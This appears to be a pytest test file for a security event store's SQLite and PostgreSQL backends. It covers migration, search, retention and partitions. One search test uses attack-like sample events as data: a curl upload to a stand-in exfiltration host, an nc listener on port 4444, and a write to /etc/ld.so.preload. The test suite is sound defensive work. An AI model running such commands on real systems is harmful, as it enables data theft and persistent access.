"""The store's compact schema against real SQLite and PostgreSQL: migration from version 1, refusal of
newer schemas, word search, keys of events in the same ns, replies past the bus's max payload."""
from __future__ import annotations

import asyncio
import sqlite3
import time

import asyncpg
import orjson
import pytest

from bench.eventmix import EventMix
from bench.store_v1 import PostgresV1, SqliteV1
from services.store import codec
from services.store.backend import open_backend
from services.store.client import StoreQueryError
from services.store.migrate import SchemaError
from services.store.tables import SCHEMA_VERSION
from shared import subjects
from tests.test_store import all_pages, client_bus, cont, ev, running_store, store_url, until  # noqa: F401


async def _v1_database(url: str, events: list[dict], alerts: list[dict]) -> None:
    if url.startswith("sqlite"):
        old = SqliteV1(url[len("sqlite://"):])
    else:
        old = await PostgresV1(url).open()
    await old.write(events, alerts)
    await old.close()


async def _schema_version(url: str) -> int:
    if url.startswith("sqlite"):
        db = sqlite3.connect(url[len("sqlite://"):])
        try:
            return db.execute("SELECT version FROM schema_version").fetchone()[0]
        finally:
            db.close()
    con = await asyncpg.connect(url)
    try:
        return await con.fetchval("SELECT version FROM schema_version")
    finally:
        await con.close()


async def test_version_1_database_is_migrated_on_start(nats_server, store_url, tmp_path):
    web = cont("web")
    events = [ev("open", container=web, path=f"/srv/app/file{i}.txt") for i in range(700)]
    alerts = [{"id": f"a-{i}", "ts": events[i]["ts"] + 1, "node": "n1", "kind": "alert", "pid": 1, "rule": "R",
               "priority": "error", "output": f"opened file{i}", "tags": [], "event": events[i],
               "container": web, "k8s": None} for i in range(0, 700, 70)]
    await _v1_database(store_url, events, alerts)
    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
        got = await all_pages(c, "events", limit=250)
        assert [e["id"] for e in got] == [e["id"] for e in reversed(events)]      # all, newest first, whole
        assert got[-1] == orjson.loads(orjson.dumps(events[0]))
        assert len(await all_pages(c, "events", container="web")) == 700
        assert [e["path"] for e in await all_pages(c, "events", q="file42.txt")] == ["/srv/app/file42.txt"]
        assert len(await all_pages(c, "alerts", priority="warning")) == 10
        # the derived tables came along unchanged; new events keep flowing in
        assert [x["events"] for x in await c.containers() if x["id"] == web["id"]] == [700]
        await bus.publish_batch(subjects.event("n1", "open"), [ev("open", container=web, path="/new")])
        await until(lambda: svc.stats.total("events_stored_total") == 1, "a new event stored")
        assert (await c.stats())["events"] == 701
    assert await _schema_version(store_url) == SCHEMA_VERSION == 5


async def test_newer_schema_is_refused_with_what_to_do(store_url):
    b = open_backend(store_url)
    await b.open()
    await b.close()
    if store_url.startswith("sqlite"):
        db = sqlite3.connect(store_url[len("sqlite://"):])
        db.execute("UPDATE schema_version SET version = 99")
        db.commit()
        db.close()
    else:
        con = await asyncpg.connect(store_url)
        await con.execute("UPDATE schema_version SET version = 99")
        await con.close()
    b = open_backend(store_url)
    with pytest.raises(SchemaError, match="version 99 is newer.*run a newer eunomia"):
        try:
            await b.open()
        finally:
            await b.close()


async def test_word_search_prefixes_and_retention_of_words(nats_server, store_url, tmp_path):
    t0 = time.time_ns() - 10**9
    evs = [ev("open", ts=t0 + 1, path="/etc/ld.so.preload", comm="evil"),
           ev("connect", ts=t0 + 2, comm="curl", family=2, daddr="203.0.113.77", dport=443, saddr="", sport=0,
              proto="tcp", ret=0, args=["curl", "-fsS", "https://exfil.example.org/upload"]),
           ev("exec", ts=t0 + 3, comm="nc", exe="/usr/bin/nc", args=["nc", "-lvp", "4444"], filename="/usr/bin/nc"),
           ev("open", ts=t0 + 4, path="/var/log/nginx/access.log", comm="nginx", container=cont("frontend"))]
    async with running_store(nats_server.url, store_url, tmp_path, retention_interval_s=3600) as svc, \
            client_bus(nats_server.url) as (bus, c):
        await bus.publish_batch(subjects.event("n1", "open"), evs)
        await until(lambda: svc.stats.total("events_stored_total") == 4, "4 stored")

        async def found(q: str) -> list[int]:
            return sorted(e["ts"] - t0 for e in await all_pages(c, "events", q=q))
        assert await found("preload") == [1]              # a dotted word's part
        assert await found("LD.SO*") == [1]               # a prefix of the whole dotted word, any case
        assert await found("203.0.113*") == [2]           # remote address by prefix
        assert await found("exfil.example.org") == [2]    # command line
        assert await found("exfil.example") == []         # whole words only, unless ...*
        assert await found("nc 4444") == [3]              # all words
        assert await found("ng*") == []                   # 2 characters: whole words only ("nginx" is not "ng")
        assert await found("ngin*") == [4]
        assert await found("frontend access") == [4]      # container name with path
        assert await found("preload nginx") == []
        for bad in ("a", "%%", "x" * 201):
            with pytest.raises(StoreQueryError, match="'q'"):
                await c.events(q=bad)
        # retention deletes rows and their words: nothing found, and the index stays consistent
        res = await svc.backend.retain(t0 + 3, 10**9, 10**12)
        assert res.deleted["events"] == 2
        assert await found("preload") == [] and await found("exfil") == []
        assert await found("4444") == [3]
        await bus.publish_batch(subjects.event("n1", "open"), [ev("open", path="/etc/ld.so.preload")])
        await until(lambda: svc.stats.total("events_stored_total") == 5, "5 stored")
        assert len(await found("preload")) == 1
    if store_url.startswith("sqlite"):
        db = sqlite3.connect(store_url[len("sqlite://"):])
        db.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 0)")   # raises if corrupt
        db.close()


async def test_events_in_the_same_ns_are_all_kept_in_order_and_deduped(nats_server, store_url, tmp_path):
    ts = time.time_ns()
    same = [ev("open", ts=ts, path=f"/same/{i}") for i in range(5)] + [ev("open", ts=ts + 1, path="/next")]
    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
        await bus.publish_batch(subjects.event("n1", "open"), same[:3])
        await bus.publish_batch(subjects.event("n1", "open"), same[3:])
        await bus.publish_batch(subjects.event("n1", "open"), same)               # redelivered: all duplicates
        await until(lambda: svc.stats.total("duplicates_skipped_total") == 6, "6 duplicates")
        assert svc.stats.total("events_stored_total") == 6
        got = await all_pages(c, "events", limit=2)
        assert sorted(e["id"] for e in got) == sorted(e["id"] for e in same)
        assert all(e["ts"] in (ts, ts + 1) for e in got)                          # bodies keep their own ts
        assert len(await all_pages(c, "events", since=ts, until=ts)) >= 1


async def test_any_page_size_fits_the_bus(nats_server, store_url, tmp_path):
    """1000 events of ~2.5 KB make a 2.5 MB page: more than NATS' 1 MiB max payload, sent in chunks."""
    events = [ev("open", path=f"/data/{i}/" + "segment/" * 300) for i in range(1000)]
    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
        for i in range(0, 1000, 200):
            await bus.publish_batch(subjects.event("n1", "open"), events[i:i + 200])
        await until(lambda: svc.stats.total("events_stored_total") == 1000, "1000 stored")
        page = await c.events(limit=1000)
        assert len(page["items"]) == 1000 and page["next_cursor"] is None
        assert len(orjson.dumps(page)) > bus.nc.max_payload
        assert svc.stats.total("query_replies_chunked_total") >= 1
        with pytest.raises(StoreQueryError, match="'limit'"):
            await c.events(limit=1001)


def test_trained_dictionary_makes_bodies_small():
    mix = EventMix(seed=7)
    evs = mix.events(12_000, time.time_ns(), 3600 * 10**9)
    c = codec.Codec()
    for e in evs[:codec.TRAIN_SAMPLES]:
        c.sample(codec.dumps(e))
    assert c.wants_training()
    c.add_dict(1, codec.train_samples(c.take_samples()))
    raws = [codec.dumps(e) for e in evs[codec.TRAIN_SAMPLES:]]
    blobs = [c.encode(r) for r in raws]
    assert [c.decode(b) for b in blobs] == raws
    assert sum(map(len, blobs)) / len(blobs) < 0.15 * sum(map(len, raws)) / len(raws)
    fresh = codec.Codec()
    with pytest.raises(ValueError, match="dictionary 1"):
        fresh.decode(blobs[0])


async def test_the_dictionary_is_trained_at_idle_priority_once_writes_quieten(tmp_path):
    """The write that brings the samples to TRAIN_SAMPLES starts the training and returns; the training
    waits while writes keep coming (a burst), then runs in a child process (services/store/train_dict.py,
    SCHED_IDLE) and its dictionary is stored and used for new bodies."""
    evs = EventMix(seed=3).events(codec.TRAIN_SAMPLES + 1200, time.time_ns(), 3600 * 10**9)
    b = open_backend(f"sqlite:///{tmp_path}/train.db")
    await b.open()
    b.training.quiet_s, b.training.quiet_items = 1.0, 20
    taken_at = []
    take = b.training.codec.take_samples
    b.training.codec.take_samples = lambda: (taken_at.append(b.training.written), take())[1]
    try:
        for i in range(0, codec.TRAIN_SAMPLES - 500, 500):
            await b.write(evs[i:i + 500], [])
        assert not b.training.codec.wants_training()
        await b.write(evs[codec.TRAIN_SAMPLES - 500:codec.TRAIN_SAMPLES], [])
        assert b.training.codec.current == 0 and not b.training.after_write(0)  # started: waiting
        for i in range(codec.TRAIN_SAMPLES, codec.TRAIN_SAMPLES + 1000, 25):  # a burst: ~2 s of writes
            await b.write(evs[i:i + 25], [])
            await asyncio.sleep(0.05)
        await b.training.wait()
        assert taken_at == [codec.TRAIN_SAMPLES + 1000]  # after the burst's last write
        assert b.training.codec.current == 1
        await b.write(evs[codec.TRAIN_SAMPLES + 1000:], [])
    finally:
        await b.close()
    db = sqlite3.connect(tmp_path / "train.db")
    assert db.execute("SELECT count(*) FROM dicts").fetchone() == (1,)
    first, last = (db.execute(f"SELECT body FROM events ORDER BY k {o} LIMIT 1").fetchone()[0][0] for o in ("", "DESC"))
    assert (first, last) == (0, 1)


async def test_no_api_query_sorts_or_scans_the_journal(tmp_path):
    """SQLite's plan for every combination of up to three filters: an index walk in key (time) order that stops
    at the page's end; never a scan of the table, never a sort of all matches."""
    import itertools

    from services.store import journal, sqlite_backend
    b = open_backend(f"sqlite:///{tmp_path}/plans.db")
    await b.open()
    await b.write([ev("open", container=cont("web"), path="/x")], [])
    await b.close()
    db = sqlite3.connect(tmp_path / "plans.db")
    values = {"kind": "exec", "container": "abc", "node": "n1", "pid": 5, "namespace": "prod", "pod": "p",
              "since": 1, "until": 2**62, "q": "nginx", "cursor": "999999999999999999", "rule": "R",
              "priority": "error"}
    checked = 0
    for j, names in ((journal.EVENTS, journal.query.EVENT_PARAMS), (journal.ALERTS, journal.query.ALERT_PARAMS)):
        names = [n for n in names if n != "limit"]
        for n in (0, 1, 2, 3):
            for combo in itertools.combinations(names, n):
                pl = journal.plan(j, {k: values[k] for k in combo})
                for probe in journal.probes(pl, dict.fromkeys(pl.names, 1), [1, 2] if pl.container else None):
                    for sql, args in sqlite_backend.probe_sql(pl, probe, since=2**40):  # scoped and older rows
                        plan = " | ".join(r[3] for r in db.execute("EXPLAIN QUERY PLAN " + sql, args))
                        assert "TEMP B-TREE" not in plan and "SCAN t" not in plan, (combo, plan)
                        checked += 1
    assert checked > 300


async def test_postgres_retention_drops_day_partitions(postgres):
    url = await postgres.new_database()
    b = open_backend(url)
    await b.open()
    try:
        day = 24 * 3600 * 10**9
        now = time.time_ns()
        await b.write([ev("open", ts=now - d * day, path=f"/day{d}/{i}") for d in (4, 3, 2, 0) for i in range(50)], [])
        con = await asyncpg.connect(url)
        try:
            parts = "SELECT count(*) FROM pg_inherits WHERE inhparent = 'events'::regclass"
            assert await con.fetchval(parts) == 4
            res = await b.retain(now - 2 * day - 3600 * 10**9, 10**9, 10**12)   # days 4 and 3 whole, day 2 kept
            assert res.deleted["events"] == 100
            assert await con.fetchval(parts) in (2, 3)    # the day-2 rows may share a partition with day 3's end
            res = await b.retain(now - 10**9, 60, 10**12)                       # day 2 ages out; 50 < 60 rows
            assert res.deleted["events"] == 50 and (await b.counts())["events"] == 50
            assert await con.fetchval(parts) == 1
            res = await b.retain(0, 20, 10**12)                                 # the row cap: oldest 30 go
            assert res.deleted["events"] == 30
            left = orjson.loads(orjson.dumps(await b.events({"limit": 100})))["items"]
            assert len(left) == 20 and all(e["path"].startswith("/day0/") for e in left)
        finally:
            await con.close()
    finally:
        await b.close()


async def test_postgres_keeps_a_size_cap_by_dropping_partitions_sized_to_it(postgres):
    """Events arriving over 24 h into a store capped far below a day of them: the partitions shrink to
    a span that holds about 1/8 of the cap, retention drops the oldest whole, and the files (not an
    estimate) end under the cap with most of what fits kept."""
    from services.store.pg_partitions import SPANS
    b = open_backend(await postgres.new_database())
    await b.open()
    mix, hour = EventMix(seed=5), 3600 * 10**9
    # from 2 h before a midnight: the first partition (a day's, made before retention sized any) ends there
    t0, n, cap = (time.time_ns() // (24 * hour) - 2) * 24 * hour + 22 * hour, 24_000, 12 << 20
    sizes, per_row = [], None
    try:
        for i in range(0, n, 1000):
            await b.write([mix.event(t0 + (i + j) * (24 * hour // n)) for j in range(1000)], [])
            if i % 3000 == 2000:
                c = await b.counts()
                per_row = per_row or c["db_bytes"] / c["events"]     # before any row went
                await b.retain(0, 10**9, cap)
                sizes.append((await b.counts())["db_bytes"])
        c = await b.counts()
        assert b.partition_ns < SPANS[-1]
        assert max(sizes[2:]) <= cap, [f"{x / 2**20:.1f}" for x in sizes]
        assert c["events"] >= 0.5 * cap / per_row, (c, per_row)       # most of what fits, not a share of it
    finally:
        await b.close()


async def test_postgres_deleting_rows_for_the_size_cap_does_not_eat_the_history(postgres):
    """All rows in one partition, over the cap: retention deletes rows, whose space the file keeps.
    Each later pass must not take that size as new excess (it deleted a share of what was left each
    time, down to a few percent)."""
    b = open_backend(await postgres.new_database())
    await b.open()
    hour = 3600 * 10**9
    mix, t0 = EventMix(seed=6), (time.time_ns() // hour - 1) * hour     # one partition: the last hour's
    try:
        for i in range(0, 20_000, 2000):
            await b.write([mix.event(t0 + (i + j) * 10**6) for j in range(2000)], [])
        cap = (await b.counts())["db_bytes"] // 2
        kept = []
        for p in range(4):
            await b.retain(0, 10**9, cap)
            kept.append((await b.counts())["events"])
            await b.write([mix.event(t0 + 10**11 + (p * 1000 + j) * 10**6) for j in range(1000)], [])
        assert min(kept) >= 0.3 * 20_000, kept          # (was 9k, 4.5k, 2.7k, 1.8k of 20k: a share each pass)
    finally:
        await b.close()


async def test_postgres_search_past_the_walk_uses_the_index(postgres, monkeypatch):
    """Rare words are found past the newest SEARCH_WALK rows (through the GIN index), pages included."""
    from services.store import pg_backend
    monkeypatch.setattr(pg_backend, "SEARCH_WALK", 5)
    b = open_backend(await postgres.new_database())
    await b.open()
    try:
        t0 = time.time_ns()
        evs = [ev("open", ts=t0 + i, path=f"/common/{'rare' if i % 10 == 0 else 'x'}{i}") for i in range(60)]
        await b.write(evs, [])

        async def search(**p) -> list[int]:
            out, cursor = [], None
            while True:
                page = orjson.loads(orjson.dumps(await b.events({**p, **({"cursor": cursor} if cursor else {})})))
                out += [e["ts"] - t0 for e in page["items"]]
                if not (cursor := page["next_cursor"]):
                    return out
        assert await search(q="rare*", limit=2) == list(range(50, -1, -10))
        assert await search(q="common", limit=7) == list(range(59, -1, -1))
        assert await search(q="rare*", kind="open", limit=100) == list(range(50, -1, -10))
        assert await search(q="nowhere") == []
    finally:
        await b.close()


async def _unscope(url: str, b, evs: list[dict]) -> None:
    """Make `evs` look stored before scope tokens existed: their words without the token, the
    watermark past them (as a database written by an older store)."""
    from services.store import journal
    words = {e["ts"]: codec.search_text(e) for e in evs}
    if url.startswith("sqlite"):
        db = sqlite3.connect(url[len("sqlite://"):])
        for k, w in words.items():
            cont_id = db.execute("SELECT cont FROM events WHERE k = ?", (k,)).fetchone()[0]
            db.execute("INSERT INTO events_fts (events_fts, rowid, words) VALUES ('delete', ?, ?)",
                       (k, journal.scoped_words(w, cont_id)))
            db.execute("INSERT INTO events_fts (rowid, words) VALUES (?, ?)", (k, w))
        db.execute("UPDATE counters SET n = ? WHERE name = 'events_scoped_since'", (max(words) + 1,))
        db.commit()
        db.close()
        return
    con = await asyncpg.connect(url)
    try:
        for k, w in words.items():
            await con.execute("UPDATE events SET words = array_to_tsvector(string_to_array($2, ' ')) WHERE k = $1",
                              k, w)
        await con.execute("UPDATE store_meta SET n = $1 WHERE name = 'events_scoped_since'", max(words) + 1)
    finally:
        await con.close()


async def test_word_search_within_a_container_intersects_and_reads_older_rows(store_url):
    web, db_ = cont("web"), cont("db")
    t0 = time.time_ns() - 10**12
    old = [ev("exec", ts=t0 + i, comm="nginx", container=web if i % 10 == 0 else db_, args=["nginx", "-g", "x"])
           for i in range(100)]
    new = [ev("exec", ts=t0 + 1000 + i, comm="nginx", container=web if i % 10 == 0 else db_,
              args=["nginx", "-s", "reload"]) for i in range(100)]
    b = open_backend(store_url)
    await b.open()
    await b.write(old, [])
    await b.close()
    await _unscope(store_url, b, old)
    b = open_backend(store_url)
    await b.open()              # the older store's rows, then new ones with scope tokens
    try:
        await b.write(new, [])
        # a late row below the watermark (another node's clock, a redelivery), and a row with no word
        # but its container's token (PostgreSQL refuses an empty lexeme)
        late = ev("exec", ts=t0 + 55, comm="nginx", container=db_, args=["nginx", "-g", "x"])
        bare = {"id": "n1-bare-1", "ts": t0 + 1200, "node": "n1", "kind": "profile", "pid": 0, "comm": "",
                "container": {"id": "cd" * 32}}
        res = await b.write([late, bare], [])
        assert res.events == 2

        async def found(**q) -> list[int]:
            out, cursor = [], None
            while True:
                page = await b.events({**q, **({"cursor": cursor} if cursor else {})})
                out += [orjson.loads(orjson.dumps(x))["ts"] - t0 for x in page["items"]]
                cursor = page["next_cursor"]
                if not cursor:
                    return out
        want = [*range(1090, 999, -10), *range(90, -1, -10)]
        assert await found(q="nginx", container=web["id"], limit=3) == want   # paged across the watermark
        assert await found(q="reload", container=web["id"]) == want[:10]
        assert await found(q="nginx", container="web") == want                # by name
        assert len(await found(q="nginx", container=db_["id"], limit=1000)) == 181
        assert await found(q="nginx", container=web["id"], since=str(t0 + 1050)) == want[:5]
        # retention deletes older and scoped rows (their words go with their shard: test_store_shards.py)
        res = await b.retain(t0 + 1050, 10**9, 10**12)
        assert res.deleted["events"] == 151
        assert await found(q="nginx", container=web["id"]) == want[:5]
    finally:
        await b.close()
    if store_url.startswith("sqlite"):
        db = sqlite3.connect(store_url[len("sqlite://"):])
        db.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 0)")   # raises if corrupt
        db.close()


async def test_postgres_word_search_within_a_container_reads_only_partitions_with_its_words(postgres):
    """The PostgreSQL side of pairs.py: partitions (hours here) where the container lacks a word are
    not searched; results are the same as searching them all; a database from before the pairs (its
    rows under the watermark) is searched whole."""
    from services.store.journal import EVENTS, KEY_MAX, pairs_key
    from tests.test_store_shards import _pair_batch, _ts
    url = await postgres.new_database()
    hour = 3600 * 10**9
    t0 = (time.time_ns() // hour - 8) * hour       # row i at t0 + i * 7.2 s: hours 0..5, 500 rows each
    a, c = cont("web"), cont("api")

    def batch(lo, hi):
        return [dict(e, ts=t0 + (e["ts"] - t0) * 7_200_000_000) for e in _pair_batch(t0, lo, hi, [a, c, None])]
    b = open_backend(url)
    await b.open()
    try:
        for lo in range(0, 1500, 250):
            await b.write(batch(lo, lo + 250), [])
    finally:
        await b.close()
    con = await asyncpg.connect(url)    # as version 4 left it: no pairs for these rows
    await con.execute("DELETE FROM events_pairs")
    await con.execute("UPDATE store_meta SET n = (SELECT max(k) + 1 FROM events) WHERE name = $1", pairs_key(EVENTS))
    await con.close()
    b = open_backend(url)
    await b.open()
    try:
        for lo in range(1500, 3000, 250):
            await b.write(batch(lo, lo + 250), [])
        at = [t0 + i * 7_200_000_000 for i in range(3000)]
        assert await _ts(b, q="alpha", container="web") == [at[i] for i in range(1497, -1, -3)]
        assert await _ts(b, q="beta_gamma", container="api") == [at[i] for i in range(2998, 1499, -3)]
        assert await _ts(b, q="naïve beta_gamma", container="api") == [at[i] for i in range(2998, 1499, -3)]
        assert await _ts(b, q="alpha", container="api") == [] and await _ts(b, q="beta_gamma", container="web") == []
        async with b.pool.acquire() as con:
            ids = {r[1]: r[0] for r in await con.fetch("SELECT id, s FROM names")}
            alpha = await b._pieces(con, EVENTS, ids[a["id"]], [("alpha", False)], 0, KEY_MAX)
            beta = await b._pieces(con, EVENTS, ids[c["id"]], [("beta_gamma", False)], 0, KEY_MAX)
        # alpha: the hours after the watermark hold no `alpha` of container a and are not read
        assert [lo for lo, _ in alpha] == [t0 + h * hour for h in (2, 1, 0)], alpha
        assert [lo for lo, _ in beta] == [t0 + h * hour for h in (5, 4, 3, 2, 1, 0)]   # before it: no pairs
        assert alpha[0][1] == at[1499]       # hour 2 is read up to the watermark only
    finally:
        await b.close()


async def test_postgres_retention_neither_over_deletes_after_a_new_partition_nor_runs_twice(postgres):
    """A partition trimmed for the size cap, then a new one with a handful of rows (whose fixed index
    pages would make a row look huge): the next pass must not take that for an excess and drop the
    trimmed history. And two replicas retaining at once delete the excess once, not twice."""
    url = await postgres.new_database()
    b, b2 = open_backend(url), open_backend(url)
    await b.open()
    await b2.open()
    mix, hour = EventMix(seed=7), 3600 * 10**9
    t0 = (time.time_ns() // hour - 6) * hour
    try:
        for i in range(0, 20_000, 2000):
            await b.write([mix.event(t0 + (i + j) * 10**7) for j in range(2000)], [])
        cap = int((await b.counts())["db_bytes"] * 0.7)
        await b.retain(0, 10**9, cap)
        first = (await b.counts())["events"]
        assert 5_000 < first < 20_000, first
        await b.write([mix.event(t0 + 2 * hour + j) for j in range(20)], [])
        await b.retain(0, 10**9, cap)
        assert (await b.counts())["events"] >= first, (first, await b.counts())
        n = (await b.counts())["events"]
        r1, r2 = await asyncio.gather(b.retain(0, n - 1000, 10**12), b2.retain(0, n - 1000, 10**12))
        assert r1.deleted.get("events", 0) + r2.deleted.get("events", 0) == 1000
        assert (await b.counts())["events"] == n - 1000
    finally:
        await b.close()
        await b2.close()


async def test_postgres_a_future_dated_event_does_not_expose_the_partition_being_written(postgres):
    """One event dated two days ahead makes a partition there; over the size cap, the partition being
    written (the newest not in the future) still loses at most half its rows a pass, not all of them."""
    b = open_backend(await postgres.new_database())
    await b.open()
    mix, now, hour = EventMix(seed=8), time.time_ns(), 3600 * 10**9
    # the events in one hour-aligned partition, the last hour's (straddling two, the older may rightly go
    # whole: it failed so when a run began within 10 min of an hour)
    t0 = (now // hour - 1) * hour
    try:
        for i in range(0, 6000, 2000):
            await b.write([mix.event(t0 + (i + j) * 10**7) for j in range(2000)], [])
        await b.write([mix.event(now + 2 * 24 * 3600 * 10**9)], [])
        await b.retain(0, 10**9, (await b.counts())["db_bytes"] // 4)
        assert (await b.counts())["events"] >= 3000
    finally:
        await b.close()


async def test_same_ns_events_redelivered_in_any_grouping_are_stored_once(store_url):
    """Thirty events of one ns, written in overlapping batches (a redelivery grouped with new messages,
    in whatever id order): each is stored once. PostgreSQL walked from the key the batch's own order gave
    an event, above the key it already had, and stored it again."""
    import random
    b = open_backend(store_url)
    await b.open()
    ts, r = time.time_ns(), random.Random(3)
    evs = [ev("open", ts=ts, path=f"/same/{i}") for i in range(30)]
    try:
        for _ in range(12):
            await b.write(r.sample(evs, r.randrange(3, 15)), [])
        await b.write(evs, [])
        assert (await b.counts())["events"] == 30
        got = orjson.loads(orjson.dumps(await b.events({"limit": 100})))["items"]
        assert sorted(e["path"] for e in got) == sorted(e["path"] for e in evs)
    finally:
        await b.close()
